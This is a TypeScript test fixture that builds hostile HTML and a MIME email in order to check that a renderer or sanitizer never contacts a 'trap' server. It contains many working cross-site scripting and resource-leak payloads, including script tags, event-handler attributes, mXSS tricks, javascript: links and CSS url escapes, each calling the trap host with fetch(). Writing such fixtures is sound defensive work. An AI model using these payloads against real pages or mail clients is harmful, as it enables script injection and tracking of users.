/**
 * Content of an attacker who wants to run script, load from elsewhere, or break out. `trap` is a server that must never
 * get a request.
 */

/** Text that a page could interpret as HTML. */
export const markup = (trap: string): string =>
  `"><script>fetch('${trap}/title-script');globalThis.owned=1</script><img src=x onerror="fetch('${trap}/title-onerror')"><svg onload="globalThis.owned=1">`

/** HTML with every known kind of attack. */
export const html = (trap: string): string => `<!doctype html>
<html><head>
<title>the title is not to be shown</title>
<base href="${trap}/base/">
<meta http-equiv="refresh" content="0; url=${trap}/refresh">
<link rel="stylesheet" href="${trap}/sheet.css"><link rel="preload" as="image" href="${trap}/preload.png">
<link rel="dns-prefetch" href="${trap}"><link rel="prefetch" href="${trap}/prefetch">
<style>@import url("${trap}/import.css"); @font-face { font-family: x; src: url(${trap}/font.woff) }
body { background: url(${trap}/background.png); font-family: x }</style>
<script>fetch("${trap}/script"); parent.owned = 1; top.location = "${trap}/top"</script>
<script src="${trap}/script.js"></script>
</head>
<body background="${trap}/body.png" onload="fetch('${trap}/onload')" style="background:url(${trap}/style.png)">
<h1>Quarterly report</h1>
<p>Readable text stays.</p>
<img src="${trap}/pixel.gif" width="1" height="1"><img srcset="${trap}/set.png 2x" src="${trap}/logo.png" alt="The logo">
<img src=x onerror="fetch('${trap}/onerror')">
<img src="cid:inside@example" alt="inside">
<svg onload="fetch('${trap}/svg')"><image href="${trap}/svg.png"/><script>fetch('${trap}/svg-script')</script><use href="${trap}/use.svg#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${trap}/mxss')&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=fetch('${trap}/noscript')>"></noscript>
<template><img src="${trap}/template.png"></template>
<iframe src="${trap}/frame"></iframe><iframe srcdoc="<script>fetch('${trap}/srcdoc')</script>"></iframe>
<object data="${trap}/object"></object><embed src="${trap}/embed"><video src="${trap}/video" poster="${trap}/poster" autoplay></video><audio src="${trap}/audio" autoplay></audio>
<form action="${trap}/form" method="post"><input name="q" value="secret" autofocus onfocus="fetch('${trap}/focus')"><button>Send</button><input type="image" src="${trap}/input.png"></form>
<a href="javascript:fetch('${trap}/javascript')" id="js">a javascript link</a>
<a href="&#106;avascript:fetch('${trap}/entities')">another</a>
<a href="${trap}/followed" target="_top" onclick="fetch('${trap}/onclick')">a link out of the frame</a>
<a href="${trap}/named" target="_parent" ping="${trap}/ping">https://your-bank.example</a>
<a href="data:text/html,<script>fetch('${trap}/data')</script>">data</a>
<div style="width:10px;background-image:image-set('${trap}/image-set.png' 1x);list-style:url(${trap}/list.png);behavior:url(${trap}/htc)">x</div>
<div style="background:u\\72l(${trap}/escaped.png);position:fixed;top:0;left:0;width:100%;height:100%">over all</div>
<div style="}body{background:url(${trap}/broken.png)}">y</div>
<div style="background:url(${trap.slice(5)}/same-scheme.png)">w</div>
<table background="${trap}/table.png"><tr><td background="${trap}/cell.png" style="color: #123456; padding: 4px">A cell</td></tr></table>
<marquee onstart="fetch('${trap}/marquee')">m</marquee>
<details ontoggle="fetch('${trap}/toggle')" open><summary>s</summary></details>
<p style="animation: x 1s" onanimationstart="fetch('${trap}/animation')">z</p>
<plaintext>
</body></html>`

/** An email with every known kind of attack. */
export const email = (trap: string): string => {
  const attachment = `=?utf-8?B?${Buffer.from(markup(trap)).toString("base64")}?=`
  return [
    'From: "Mallory <script>" <mallory@example.com>',
    "To: me@example.com",
    `Subject: =?utf-8?B?${Buffer.from(markup(trap)).toString("base64")}?=`,
    "Date: Mon, 05 Jan 2026 10:00:00 +0000",
    "Message-ID: <hostile@example.com>",
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="mixed"',
    "",
    "--mixed",
    'Content-Type: multipart/alternative; boundary="either"',
    "",
    "--either",
    "Content-Type: text/plain; charset=utf-8",
    "",
    `The plain text. <script>fetch('${trap}/plain')</script>`,
    "--either",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(html(trap)).toString("base64").replaceAll(/.{76}/g, "$&\r\n"),
    "--either--",
    "--mixed",
    "Content-Type: image/png",
    "Content-ID: <inside@example>",
    "Content-Disposition: inline; filename=inside.png",
    "Content-Transfer-Encoding: base64",
    "",
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "--mixed",
    "Content-Type: text/html",
    `Content-Disposition: attachment; filename="${attachment}"`,
    "",
    `<script>fetch('${trap}/attachment')</script>`,
    "--mixed",
    "Content-Type: image/svg+xml",
    "Content-Disposition: attachment; filename=drawing.svg",
    "",
    `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${trap}/drawing')</script></svg>`,
    "--mixed--",
    ""
  ].join("\r\n")
}
